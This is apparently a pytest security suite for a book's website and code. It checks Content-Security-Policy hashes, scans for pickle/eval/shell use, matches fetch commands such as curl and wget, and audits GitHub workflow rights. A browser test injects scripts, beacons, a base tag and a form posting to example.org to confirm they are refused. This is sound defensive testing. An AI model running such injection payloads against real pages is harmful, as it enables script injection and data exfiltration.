"""What the book lets run: on its pages no script but its own, in its code nothing that a file brings, in workflows no more rights than needed."""

import ast
import html
import re

import pytest
import tasks
import yaml

import security_policy
from helpers import exact
from pages import OTHERS, PAGES, ROOT, SITE, Visit, until

# The policy of every page


def written():
    """Return the pages of the site, whole or leading on, by their names."""
    texts = {
        path.relative_to(SITE).as_posix(): path.read_text(encoding="utf-8") for path in sorted(SITE.rglob("*.html"))
    }
    return {name: text for name, text in texts.items() if "<html" in text}


def directives(page):
    """Take the policy of a page apart."""
    (said,) = re.findall(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)"', page)
    return {words[0]: words[1:] for words in (part.split() for part in html.unescape(said).split(";"))}


def test_every_page_begins_with_its_policy():
    pages = written()
    assert len(pages) == len(PAGES) + len(OTHERS) + 1  # `index` leads on
    start = re.compile(r'<head>\s*<meta charset="utf-8" ?/?>\s*<meta http-equiv="Content-Security-Policy"')
    assert [name for name, page in pages.items() if not start.search(page[:300])] == []


def test_a_policy_names_what_its_page_has_and_nothing_else():
    for name, page in written().items():
        said, slides = directives(page), name.startswith("slides/")
        own = {"default-src": ["'none'"], "base-uri": ["'none'"], "form-action": ["'self'"], "connect-src": ["'self'"]}
        own |= {key: ["'self'", "data:"] for key in ("img-src", "font-src")}
        own |= {"frame-src": ["'self'"], "style-src": ["'self'", "'unsafe-inline'"]} if slides else {}
        hashed = {key: words for key, words in said.items() if key not in own}
        assert {key: said.get(key) for key in own} == own, name
        assert sorted(hashed) == ["script-src", *([] if slides else ["style-src"])], name
        for words in hashed.values():
            assert words[0] == "'self'" and set(words[1:]) - {"'unsafe-hashes'"} == set(
                re.findall(r"'sha256-[\w+/]{43}='", " ".join(words))
            )
        assert ("'unsafe-hashes'" in said["style-src"]) == (" style=" in page and not slides), name
        scripts = set(security_policy.sources(security_policy.scripts(page)).split())
        assert set(said["script-src"]) - scripts == (set(said["script-src"][-1:]) if slides else set()), name
        assert scripts <= set(said["script-src"]), name


def test_no_page_keeps_what_is_only_for_thebe():
    assert [name for name, page in written().items() if "thebe-config" in page or "kernelName" in page] == []


PAGE = '<head>\n<meta charset="utf-8" />\n{}</head>'


def test_a_page_gets_the_hashes_of_what_stands_in_it():
    # the hash of `alert(1);` as other tools say it
    page = PAGE.format(
        '<script>alert(1);</script><script src="a.js"></script><script type="text/x">b</script><p style="c">'
    )
    said = directives(security_policy.closed(page))
    assert said["script-src"] == ["'self'", "'sha256-5jFwrAK0UV47oFbVg/iCCBbxD8X1w+QvoOUepu4C2YA='"]
    assert said["style-src"] == ["'self'", f"'sha256-{security_policy.digest('c')}'", "'unsafe-hashes'"]
    assert "style-src 'self'\"" in security_policy.closed(PAGE.format("<script>'<p style=\"c\">'</script>"))


@pytest.mark.parametrize(
    ("tag", "said"),
    [
        ('<p onclick="a()">', "onclick="),
        ("<p class='b' ONLOAD=a()>", "ONLOAD="),
        ('<a href="javascript:a()">', 'href="javascript:'),
        ("<a href=' javascript:a()'>", "href=' javascript:"),
    ],
)
def test_a_script_in_an_attribute_ends_the_build(tag, said):
    with pytest.raises(ValueError, match=exact(f"{said} in {tag}: the policy allows no script in an attribute")):
        security_policy.closed(PAGE.format(tag))


@pytest.mark.parametrize(
    "tag", ['<p title="a > b onclick=c">', '<p title="javascript: a">', "<!-- <p onclick='a'> -->"]
)
def test_words_about_scripts_are_none(tag):
    assert tag in security_policy.closed(PAGE.format(tag))


def test_a_page_without_a_place_for_its_policy_ends_the_build():
    with pytest.raises(
        ValueError, match=exact("a page does not say its encoding, after which its policy has to stand")
    ):
        security_policy.closed("<head></head>")


def test_scripts_that_do_nothing_go_and_those_that_set_one_object_are_joined():
    page = (
        "<script>const DOCUMENTATION_OPTIONS = {\n};</script>\n<b>\n<script>kernelName = 'python3'</script>\n"
        '<script type="text/x-thebe-config">\n{a}\n</script>\n<script>DOCUMENTATION_OPTIONS.pagename = "x"</script>\n'
        '<button onclick="window.print()"\n  class="c">'
    )
    joined = '<script>const DOCUMENTATION_OPTIONS = {\n};\nDOCUMENTATION_OPTIONS.pagename = "x";</script>\n'
    assert security_policy.lighter(page) == f'<b>\n{joined}<button\n  class="c">'


# The pages in a browser; test_site.py visits all as they are served, where a violation is a complaint

LISTEN = """window.refused = [];
addEventListener("securitypolicyviolation", event => window.refused.push([event.effectiveDirective, event.blockedURI]));"""
ATTACKS = """() => {
  const add = (name, said, place = document.body) => place.append(Object.assign(document.createElement(name), said));
  add("script", { textContent: "window.harm = 'script'" });
  add("script", { src: "https://example.org/a.js" });
  add("img", { src: "https://example.org/a.png" });
  add("iframe", { src: "https://example.org/" });
  add("link", { rel: "stylesheet", href: "https://example.org/a.css" }, document.head);
  add("style", { textContent: "body { color: red }" });
  add("base", { href: "https://example.org/" }, document.head);
  document.body.insertAdjacentHTML("beforeend", "<b onclick='window.harm = 1' style='color: red'></b>");
  document.querySelector("body > b").click();
  fetch("https://example.org/a.json").catch(() => null);
  navigator.sendBeacon("https://example.org/b");
  setTimeout("window.harm = 'text'");
  add("form", { action: "https://example.org/c", id: "away" });
  document.getElementById("away").submit();
}"""
CAME_OF_IT = """() => [
  window.refused.map(([what, where]) => `${what} ${where}`).sort(),
  window.harm ?? null,
  document.baseURI === location.href,
]"""
REFUSED = [
    "base-uri https://example.org/",
    "connect-src https://example.org/a.json",
    "connect-src https://example.org/b",
    "form-action https://example.org/c?",
    "frame-src https://example.org",
    "img-src https://example.org/a.png",
    "script-src eval",
    "script-src-attr inline",
    "script-src-elem https://example.org/a.js",
    "script-src-elem inline",
    "style-src-attr inline",
    "style-src-elem https://example.org/a.css",
    "style-src-elem inline",
]


@pytest.fixture(params=["server", "files"])
def home(request, address):
    return address if request.param == "server" else SITE.as_uri()


def test_nothing_that_is_put_into_a_page_gets_through(browser, home):
    with Visit(browser, home) as visit:
        visit.page.add_init_script(LISTEN)
        page = visit.open(f"{home}/chapters/03-formula-backwards.html")
        assert page.evaluate("refused") == visit.complaints == []
        page.evaluate(ATTACKS)
        until(page, "number => refused.length >= number", len(REFUSED))
        refused, harm, same_base = page.evaluate(CAME_OF_IT)
        assert refused == REFUSED
        assert (harm, same_base, visit.outside) == (None, True, [])


def kinds():
    """Return a page for each set of scripts that a page can ask for, and each kind of policy."""
    found = {}
    for name, page in written().items():
        asked = frozenset(re.findall(r'<script[^>]* src="[^"?]*?([\w.-]+)["?]', page))
        found.setdefault((asked, "unsafe-hashes" in page), name)
    return [name for name in found.values() if name != "404.html"]  # which is for a host


def test_pages_are_at_peace_with_their_policy_when_opened_as_files(browser):
    with Visit(browser, SITE.as_uri()) as visit:
        visit.page.add_init_script(LISTEN)
        for name in kinds():
            page = visit.page
            page.goto(f"{SITE.as_uri()}/{name}")
            assert (name, page.evaluate("refused"), visit.complaints, visit.outside) == (name, [], [], [])


def test_what_works_by_scripts_works_under_the_policy(browser, home):
    """Explorer, steppers, theme switch, copy buttons, and the buttons whose handlers the policy does not allow."""
    with Visit(browser, home) as visit:
        page = visit.open(f"{home}/chapters/explorer.html")
        page.locator("shape-explorer button").first.wait_for()
        page = visit.open(f"{home}/chapters/05-every-form.html")
        page.locator("stamp-stepper button", has_text="All").first.click()
        seen = page.evaluate("document.documentElement.dataset.mode")
        page.locator("button.theme-switch-button:visible").first.click()
        until(page, "seen => document.documentElement.dataset.mode !== seen", seen)
        page.evaluate(
            "window.print = () => done.push('print'); window.toggleFullScreen = () => done.push('full'); window.done = []"
        )
        for kind in ("fullscreen", "download-pdf"):
            page.locator(f".btn-{kind}-button").first.dispatch_event("click")
        assert page.evaluate("done") == ["full", "print"]
        page.locator("button.copybtn").first.click()
        until(page, "document.querySelector('.copybtn').dataset.tooltip.endsWith('!')")
        choice = page.locator("article details > summary").first
        choice.click()
        assert choice.evaluate("summary => summary.parentElement.open")
        assert visit.complaints == []


# The code

CODE = sorted(
    path
    for place in ("src", "tools", "benchmarks", "course", "tasks.py", "conftest.py")
    for path in ([ROOT / place] if place.endswith(".py") else (ROOT / place).rglob("*.py"))
)
UNPACKERS = {"pickle", "_pickle", "cPickle", "dill", "cloudpickle", "joblib", "marshal", "shelve", "jsonpickle", "h5py"}
RUNNERS = {"eval", "exec", "compile", "__import__", "popen", "load_model", "unsafe_load", "full_load"}
RUNNERS |= {"enable_unsafe_deserialization"}
LISTED = {  # what runs a text, where, and why nobody else can write it
    ("tools/api_reference.py", "eval"): "a call in the book's own pages, to show how it is refused",
    ("tools/cheat_sheet.py", "eval"): "the arguments of a line in the book's own page",
    ("tools/mutate_pictures.py", "compile"): "a module of the package with a fault, and the cells of the chapters",
    ("tools/mutate_pictures.py", "exec"): "the same",
    ("tools/worksheet.py", "eval"): "an expression in the book's own worksheet",
}


def dangers(text):
    """Yield what in a program takes a text or a file for a program."""
    for node in ast.walk(ast.parse(text)):
        if isinstance(node, ast.Import | ast.ImportFrom):
            names = [alias.name for alias in node.names] + [getattr(node, "module", None) or ""]
            yield from (name for name in names if name.split(".")[0] in UNPACKERS)
        elif isinstance(node, ast.Call):
            name = node.func.attr if isinstance(node.func, ast.Attribute) else getattr(node.func, "id", "")
            owner = getattr(getattr(node.func, "value", None), "id", "")
            if (name in RUNNERS and owner != "re") or (owner, name) in {
                ("yaml", "load"),
                ("torch", "load"),
                ("os", "system"),
            }:
                yield name
            given = {keyword.arg: getattr(keyword.value, "value", None) for keyword in node.keywords}
            yield from ({"allow_pickle", "shell"} & given.keys())
            yield from (["safe_mode"] if given.get("safe_mode", True) is not True else [])


def test_no_code_of_the_book_runs_what_a_file_says():
    found = {
        (path.relative_to(ROOT).as_posix(), what) for path in CODE for what in dangers(path.read_text(encoding="utf-8"))
    }
    assert found == set(LISTED)


@pytest.mark.parametrize(
    ("code", "what"),
    [
        ("import pickle", "pickle"),
        ("from marshal import loads", "marshal"),
        ("np.load('a', allow_pickle=True)", "allow_pickle"),
        ("yaml.load(text)", "load"),
        ("yaml.unsafe_load(text)", "unsafe_load"),
        ("yaml.safe_load(text)", None),
        ("keras.models.load_model('a')", "load_model"),
        ("read(path, safe_mode=False)", "safe_mode"),
        ("os.system('a')", "system"),
        ("subprocess.run('a', shell=True)", "shell"),
        ("builtins.exec('a')", "exec"),
        ("re.compile('a')", None),
    ],
)
def test_what_would_run_is_seen(code, what):
    assert list(dangers(code)) == ([what] if what else [])


def test_no_chapter_unpacks_a_file():
    texts = [path for folder in ("chapters", "course") for path in sorted((ROOT / folder).rglob("*.md"))]
    wanted = re.compile(
        r"^\s*(?:import|from) (?:pickle|marshal|dill|joblib)\b|allow_pickle|safe_mode\s*=\s*False", re.MULTILINE
    )
    assert [path.name for path in texts if wanted.search(path.read_text(encoding="utf-8"))] == []


# What comes from the network

FETCHERS = re.compile(
    r"\b(curl|wget|npx|npm install|git clone|urlopen|urlretrieve|requests\.get|httpx\.|AsyncHTTPClient\(|docker|playwright install|"
    r"pip install|git\+https|Invoke-WebRequest)"
)
FETCHING = {  # where such a word stands, and why the site is none the worse for it
    "tasks.py": {"pip install"},  # in what is said to do when uv is missing
    "tools/hub_trial.py": {"urlopen", "AsyncHTTPClient("},  # ask the hub that it has started itself, at 127.0.0.1
    "tools/lighthouse.py": {"npx"},  # measures a site that is built; one exact version, in a job without rights
    "tools/offline.py": {"pip install"},  # the lines that a teacher is shown
    "tools/repository.py": {"git+https", "pip install"},  # the line of Colab's cell, which it gives its address
}


def test_nothing_is_fetched_but_packages():
    places = [
        ROOT / "tasks.py",
        ROOT / ".ci" / "run",
        *(ROOT / "tools").rglob("*.py"),
        *(ROOT / ".github").rglob("*.yml"),
    ]
    found = {
        path.relative_to(ROOT).as_posix(): set(FETCHERS.findall(path.read_text(encoding="utf-8"))) for path in places
    }
    assert {name: words for name, words in found.items() if words - FETCHING.get(name, set())} == {}


def test_each_package_of_the_lock_has_its_hashes():
    lock = re.sub(r"\\\n", "", (ROOT / "requirements.lock").read_text(encoding="utf-8"))
    lines = [line for line in lock.splitlines() if line.strip() and not line.startswith("#")]
    assert len(lines) > 100
    exactly = re.compile(r"[\w.-]+==[\w.+!]+(?: ; [^#]+?)?(?:\s+--hash=sha256:[0-9a-f]{64})+\s*")
    assert [line.split()[0] for line in lines if not exactly.fullmatch(line)] == []


@pytest.mark.parametrize("uv", [None, "uv"])
def test_the_setup_takes_nothing_without_its_hash(monkeypatch, uv):
    ran = []
    monkeypatch.setattr(tasks, "run", lambda command, *words, **more: ran.append([str(word) for word in command]))
    monkeypatch.setattr(tasks.shutil, "which", lambda name: uv)
    tasks.create_environment()
    installs = [command for command in ran if "install" in command]
    assert len(installs) == 2
    assert {"--require-hashes", "--no-deps", str(tasks.REQUIREMENTS)} <= set(installs[0])
    assert installs[1][-4:] == ["--no-deps", "--no-build-isolation", "--editable", str(tasks.ROOT)]


# The workflows

WORKFLOWS = sorted((ROOT / ".github" / "workflows").glob("*.y*ml"))
RIGHTS = {("pages.yml", "publish"): {"pages": "write", "id-token": "write"}}  # more than reading


@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda path: path.name)
def test_a_workflow_has_no_right_that_it_does_not_need(path):
    workflow = yaml.safe_load(path.read_text(encoding="utf-8"))
    assert faults_of(path.name, workflow) == []


TAKEN = re.compile(r"\$\{\{(?!\s*(?:matrix\.[a-z]+|github\.run_number)\s*\}\})")  # nobody outside writes these two


def faults_of(name, workflow):
    """Say what a workflow could do that it need not."""
    found = [] if workflow.get("permissions") in ({}, {"contents": "read"}) else ["rights of all jobs"]
    found += ["runs others' changes with rights"] if "pull_request_target" in str(workflow.get(True)) else []
    for job, said in workflow["jobs"].items():
        if said.get("permissions", {}) != RIGHTS.get((name, job), {}):
            found.append(f"rights of {job}")
        for step in said["steps"]:
            used, given = step.get("uses", ""), step.get("with", {})
            if used and not re.fullmatch(r"[\w-]+/[\w./-]+@[0-9a-f]{40}", used):
                found.append(f"{used} may change")
            if used.startswith("actions/checkout@") and given.get("persist-credentials") is not False:
                found.append(f"{job} keeps the token")
            if TAKEN.search(step.get("run", "")):
                found.append(f"{job} runs a text from outside")
    return found


def test_a_workflow_that_could_do_harm_is_seen():
    step = {"uses": "actions/checkout@v5"}
    job = {"permissions": {"contents": "write"}, "steps": [step, {"run": "echo ${{ github.head_ref }}"}]}
    assert faults_of("a.yml", {True: {"pull_request_target": None}, "jobs": {"b": job}}) == [
        "rights of all jobs",
        "runs others' changes with rights",
        "rights of b",
        "actions/checkout@v5 may change",
        "b keeps the token",
        "b runs a text from outside",
    ]
